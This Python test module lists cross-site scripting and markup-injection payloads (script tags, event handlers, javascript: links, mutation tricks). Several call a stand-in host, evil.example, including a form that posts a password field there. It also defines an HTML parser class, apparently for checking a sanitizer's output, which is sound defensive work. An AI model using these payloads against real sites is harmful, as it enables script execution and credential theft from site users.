"""Markup that was used against sites which show other people's text: for prompts, completions, guidelines and names."""

from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s">',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password"><button>Go on</button></form>',
    '<button formaction="javascript:alert(1)">Go on</button>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<body onload="alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</div>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '[click](https://good.example "title\\" onmouseover=\\"alert(1)")',
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "[out](/accounts/logout/)",
    "[out](//evil.example/)",
    "[x]: javascript:alert(1)\n\n[x]",
    '```html"><script>alert(1)</script>\ncode\n```',
    "`<script>alert(1)</script>`",
    "--></textarea></title></style></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}${alert(1)}",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    "<a id=desk name=submit>clobber</a><form id=content><input id=submit name=attributes>",
]


class Reader(HTMLParser):
    """Reads a page as a browser does: tags and attributes apart from text that only looks like them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data
